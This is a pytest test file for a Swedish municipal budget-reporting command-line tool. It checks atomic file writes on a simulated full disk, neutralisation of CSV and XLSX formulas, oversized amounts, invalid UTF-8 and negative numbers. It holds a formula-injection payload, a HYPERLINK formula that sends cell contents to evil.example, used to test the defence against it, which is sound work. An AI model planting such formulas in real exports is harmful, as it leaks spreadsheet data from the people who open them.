"""Hostile input through the CLI: atomic files, CSV formulas, odd bytes and huge amounts.

Every refusal is one line on stderr and leaves the database and any earlier file as they were.
"""

from __future__ import annotations

import builtins
import csv
import errno
import io
import os
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ksui.store import Store, read
from tests.cli.conftest import Run, dump
from tests.conftest import tkr

REPO = Path(__file__).resolve().parents[2]


def actual(path: Path, name: str) -> int | None:
    store = Store(path)
    try:
        data = read.load_report(store, read.find_committee(store, None), 2017, "bokslut")
    finally:
        store.close()
    unit = next(u for u in data.tree.units.values() if u.name == name)
    return data.figures[unit.id].actual


def comment(path: Path, name: str) -> str:
    store = Store(path)
    try:
        data = read.load_report(store, read.find_committee(store, None), 2017, "bokslut")
    finally:
        store.close()
    unit = next(u for u in data.tree.units.values() if u.name == name)
    return data.comment("unit", unit.id)


def one_line(stderr: str) -> str:
    assert stderr.startswith("ksui: "), stderr
    assert stderr.count("\n") == 1 and "Traceback" not in stderr, stderr
    return stderr


# -- 5. atomic files -------------------------------------------------------------------------


class _FullDisk:
    """A file whose disk fills up after ``room`` bytes (or characters) have been written."""

    def __init__(self, handle: Any, room: int) -> None:
        self._handle = handle
        self._room = room

    def write(self, data: Any) -> int:
        if len(data) > self._room:
            self._handle.write(data[: self._room])
            self._handle.flush()
            self._room = 0
            raise OSError(errno.ENOSPC, "No space left on device")
        self._room -= len(data)
        return self._handle.write(data)

    def __enter__(self) -> _FullDisk:
        return self

    def __exit__(self, *exc: object) -> None:
        self._handle.close()

    def __getattr__(self, name: str) -> Any:
        return getattr(self._handle, name)


@pytest.fixture
def full_disk(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Iterator[Path]:
    """A folder on a 'disk' that fills up after 10 bytes of any file opened for writing."""
    folder = tmp_path / "out"
    folder.mkdir()
    real_open = io.open

    def patched(file: Any, mode: str = "r", *args: Any, **kwargs: Any) -> Any:
        handle = real_open(file, mode, *args, **kwargs)
        writing = any(flag in mode for flag in "wax+")
        inside = isinstance(file, int) or Path(os.fsdecode(file)).parent == folder
        return _FullDisk(handle, 10) if writing and inside else handle

    monkeypatch.setattr(io, "open", patched)
    monkeypatch.setattr(builtins, "open", patched)
    yield folder


OLD_REPORT = "# Förra rapporten\n\nDen här texten får inte försvinna.\n".encode()


def plant(path: Path, data: bytes) -> None:
    """Write the earlier file below io.open, which the full_disk fixture has patched."""
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
    try:
        os.write(fd, data)
    finally:
        os.close(fd)


def test_export_on_a_full_disk_keeps_the_old_file(run: Run, full_disk: Path) -> None:
    target = full_disk / "rapport.md"
    plant(target, OLD_REPORT)
    result = run("export", "markdown", "-o", str(target))
    assert result.exit_code == 2, result.output
    assert "disken är full" in one_line(result.stderr)
    assert target.read_bytes() == OLD_REPORT
    assert sorted(p.name for p in full_disk.iterdir()) == ["rapport.md"]


@pytest.mark.parametrize("name", ["mall.csv", "mall.xlsx"])
def test_template_on_a_full_disk_keeps_the_old_file(run: Run, full_disk: Path, name: str) -> None:
    target = full_disk / name
    plant(target, OLD_REPORT)
    result = run("template", "drift", str(target), "--force")
    assert result.exit_code == 2, result.output
    one_line(result.stderr)
    assert target.read_bytes() == OLD_REPORT
    assert sorted(p.name for p in full_disk.iterdir()) == [name]


def test_export_keeps_the_file_mode_and_replaces_the_content(run: Run, tmp_path: Path) -> None:
    target = tmp_path / "rapport.md"
    target.write_bytes(OLD_REPORT)
    target.chmod(0o640)
    result = run("export", "markdown", "-o", str(target))
    assert result.exit_code == 0, result.output
    assert target.read_text(encoding="utf-8").startswith("# Årsrapport 2017")
    assert target.stat().st_mode & 0o777 == 0o640
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


# -- 8. CSV formula injection ----------------------------------------------------------------

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1;"Klicka")'


def rename(path: Path, old: str, new: str, *, code: str | None = "keep") -> None:
    conn = sqlite3.connect(path)
    try:
        if code == "keep":
            conn.execute("UPDATE unit SET name = ? WHERE name = ?", (new, old))
        else:
            conn.execute("UPDATE unit SET name = ?, code = ? WHERE name = ?", (new, code, old))
        conn.commit()
    finally:
        conn.close()


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_drift_csv_neutralises_formulas_but_not_numbers(
    run: Run, demo_path: Path, prefix: str
) -> None:
    rename(demo_path, "Ekonomi", prefix + "SUM(A1:A9)")
    result = run("drift", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    names = [row[rows[0].index("name")] for row in rows]
    assert "'" + prefix + "SUM(A1:A9)" in names
    negative = [cell for row in rows[1:] for cell in row if cell.startswith("-")]
    assert negative, "the demo has negative amounts"
    assert all(cell.replace(".", "").lstrip("-").isdigit() for cell in negative)


def test_investments_and_personnel_csv_neutralise_names(run: Run, demo_path: Path) -> None:
    conn = sqlite3.connect(demo_path)
    try:
        conn.execute("UPDATE investment_project SET name = '@SUM(1+1)' WHERE id = 1")
        conn.commit()
    finally:
        conn.close()
    investments = run("investments", "--format", "csv").stdout
    assert "'@SUM(1+1)" in investments
    personnel = list(csv.reader(io.StringIO(run("personnel", "--format", "csv").stdout)))
    groups = {row[2] for row in personnel[1:]}
    assert "'-29 år" in groups and "-29 år" not in groups


def test_csv_template_neutralises_and_imports_back(
    run: Run, demo_path: Path, tmp_path: Path
) -> None:
    rename(demo_path, "Ekonomi", HOSTILE, code=None)
    drift = tmp_path / "drift.csv"
    assert run("template", "drift", str(drift), "--year", "2017").exit_code == 0
    cells = [row[0] for row in csv.reader(io.StringIO(drift.read_text("utf-8-sig")), delimiter=";")]
    assert "'" + HOSTILE in cells
    personal = tmp_path / "personal.csv"
    assert run("template", "personal", str(personal), "--year", "2018").exit_code == 0
    text = personal.read_text("utf-8-sig")
    assert "'-29 år" in text
    filled = text.replace(";Nämnden;\r\n", ";Nämnden;4,5\r\n").replace(
        ";Nämnden;\n", ";Nämnden;4,5\n"
    )
    personal.write_text(filled, encoding="utf-8")
    result = run("import", "personal", str(personal))
    assert result.exit_code == 0, result.output
    store = Store(demo_path)
    try:
        groups = {
            g for (g,) in store.conn.execute("SELECT group_name FROM sick_leave WHERE year = 2018")
        }
    finally:
        store.close()
    assert "-29 år" in groups and "'-29 år" not in groups


def test_xlsx_template_writes_formula_text_as_text(
    run: Run, demo_path: Path, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    rename(demo_path, "Ekonomi", HOSTILE, code=None)
    target = tmp_path / "drift.xlsx"
    assert run("template", "drift", str(target)).exit_code == 0
    book = load_workbook(target)
    cells = [row[0] for row in book.worksheets[0].iter_rows()]
    hostile = [c for c in cells if c.value == HOSTILE]
    assert hostile and all(c.data_type == "s" for c in hostile)
    assert not any(c.data_type == "f" for row in book.worksheets[0].iter_rows() for c in row)


# -- 9. amounts beyond what the store can hold -----------------------------------------------


@pytest.mark.parametrize(
    "typed", ["99999999999999999999 tkr", "-99999999999999999999", "1 000 000 000 mkr"]
)
def test_set_refuses_an_amount_beyond_the_bound(run: Run, demo_path: Path, typed: str) -> None:
    before = dump(demo_path)
    result = run("set", "drift", "120", "utfall", typed)
    assert result.exit_code == 2, result.output
    assert "för stort" in one_line(result.stderr)
    result = run("set", "investment", "Bärbara datorer", "utfall", typed)
    assert result.exit_code == 2, result.output
    assert "för stort" in one_line(result.stderr)
    assert dump(demo_path) == before


def test_import_refuses_a_huge_amount_with_its_line(
    run: Run, demo_path: Path, tmp_path: Path
) -> None:
    path = tmp_path / "drift.csv"
    path.write_text("Enhet;År;Budget\n120;2017;1\n120;2017;99999999999999999999\n", "utf-8")
    before = dump(demo_path)
    result = run("import", "drift", str(path), "--period", "bokslut")
    assert result.exit_code == 1, result.output
    assert "drift.csv:3:" in one_line(result.stderr) and "för stort" in result.stderr
    assert dump(demo_path) == before


# -- 9. bytes that are not UTF-8 -------------------------------------------------------------


def test_comment_from_stdin_in_cp1252(run: Run, demo_path: Path) -> None:
    result = run(
        "set",
        "comment",
        "Ekonomi",
        "-",
        input="Överskott på grund av vakanser – åäö\n".encode("cp1252"),
    )  # type: ignore[arg-type]
    assert result.exit_code == 0, result.output
    assert comment(demo_path, "Ekonomi") == "Överskott på grund av vakanser – åäö"


def test_comment_from_stdin_in_utf8_with_bom(run: Run, demo_path: Path) -> None:
    result = run("set", "comment", "Ekonomi", "-", input="\ufeffÅtgärder – klart".encode())  # type: ignore[arg-type]
    assert result.exit_code == 0, result.output
    assert comment(demo_path, "Ekonomi") == "Åtgärder – klart"


def test_comment_from_stdin_that_is_no_text_is_refused(run: Run, demo_path: Path) -> None:
    before = dump(demo_path)
    result = run("set", "comment", "Ekonomi", "-", input=b"a\x81\x8d\xff")  # type: ignore[arg-type]
    assert result.exit_code == 2, result.output
    assert "standard in" in one_line(result.stderr)
    assert dump(demo_path) == before


@pytest.mark.parametrize(
    ("args", "name"),
    [
        (("drift", "120", "utfall", "5", "--reason", "a\udcffb"), "--reason"),
        (("drift", "120", "utfall", "5", "-r", "\udce5ndrat"), "--reason"),
        (("drift", "Ekonomi\udcff", "utfall", "5"), "enheten"),
        (("comment", "Ekonomi", "text \udcc3\udca5"), "kommentaren"),
        (("geh", "ekonomi", "bra", "--reason", "\udcff"), "--reason"),
        (("assessment", "area", "H\udcc3llbara", "ok"), "området"),
    ],
)
def test_set_refuses_invalid_utf8_in_arguments(
    run: Run, demo_path: Path, args: tuple[str, ...], name: str
) -> None:
    before = dump(demo_path)
    result = run("set", *args)
    assert result.exit_code == 2, result.output
    assert f"{name} innehåller ogiltig UTF-8" in one_line(result.stderr)
    assert dump(demo_path) == before


def test_invalid_utf8_in_argv_through_a_real_process(demo_path: Path, tmp_path: Path) -> None:
    config = tmp_path / "empty.toml"
    config.write_text("", encoding="utf-8")
    env = {
        "PATH": os.environ.get("PATH", ""),
        "HOME": str(tmp_path),
        "LANG": "C.UTF-8",
        "LC_ALL": "C.UTF-8",
        "KSUI_CONFIG": str(config),
        "PYTHONPATH": str(REPO),
    }
    before = dump(demo_path)
    args: list[str | bytes] = [sys.executable, "-m", "ksui", "--db", str(demo_path), "set"]
    args += ["drift", "120", "utfall", "5", b"--reason", b"Till\xe4ggsanslag"]
    proc = subprocess.run(args, capture_output=True, env=env, cwd=tmp_path, timeout=60)
    assert proc.returncode == 2, proc.stderr
    assert proc.stderr.decode() == "ksui: --reason innehåller ogiltig UTF-8\n"
    assert dump(demo_path) == before


# -- 12. negative amounts are not options ----------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "ore"),
    [
        ("-5 tkr", -tkr(5)),
        ("-5", -tkr(5)),
        ("-1 076", -tkr(1_076)),
        ("−1 076", -tkr(1_076)),
        ("-1 076 tkr", -tkr(1_076)),
        ("- 5 tkr", -tkr(5)),
        ("-4,3 mkr", -tkr(4_300)),
        ("-1 500 kr", -150_000),
    ],
)
def test_set_drift_negative_amounts(run: Run, demo_path: Path, typed: str, ore: int) -> None:
    result = run("set", "drift", "140", "utfall", typed, "--reason", "-5 tkr justering")
    assert result.exit_code == 0, result.output
    assert actual(demo_path, "Administration och utredning") == ore


def test_negative_amount_before_options_keeps_them(run: Run, demo_path: Path) -> None:
    result = run("set", "drift", "140", "prognos", "-5 tkr", "-p", "delår", "-r", "Ny prognos")
    assert result.exit_code == 0, result.output
    assert "Administration och utredning, prognos 2017, delår" in result.stdout
    assert "-5 tkr" in result.stdout
    log = run("log", "--limit", "1", env={"COLUMNS": "250"})
    assert "Ny prognos" in log.stdout


def test_set_investment_negative_amount(run: Run) -> None:
    result = run("set", "investment", "Bärbara datorer", "utfall", "-5 tkr")
    assert result.exit_code == 0, result.output
    assert "-5 tkr" in result.stdout


def test_comment_that_starts_with_a_dash(run: Run, demo_path: Path) -> None:
    text = "-Ekonomi gick bättre än väntat, -5 tkr"
    result = run("set", "comment", "Ekonomi", text)
    assert result.exit_code == 0, result.output
    assert comment(demo_path, "Ekonomi") == text


def test_unknown_option_is_still_an_error(run: Run, demo_path: Path) -> None:
    before = dump(demo_path)
    result = run("set", "drift", "140", "utfall", "5", "--yaer", "2017")
    assert result.exit_code == 2
    assert dump(demo_path) == before


# -- 9. config values that are no numbers ----------------------------------------------------


@pytest.mark.parametrize("value", ["nan", "1e400", "-inf"])
def test_config_non_finite_tolerance_is_one_line(run: Run, tmp_path: Path, value: str) -> None:
    config = tmp_path / "config.toml"
    config.write_text(f"[checks]\ntolerance_tkr = {value}\n", encoding="utf-8")
    result = run("check", env={"KSUI_CONFIG": str(config)})
    assert result.exit_code == 2, result.output
    assert f"{config}:2: checks.tolerance_tkr:" in one_line(result.stderr)
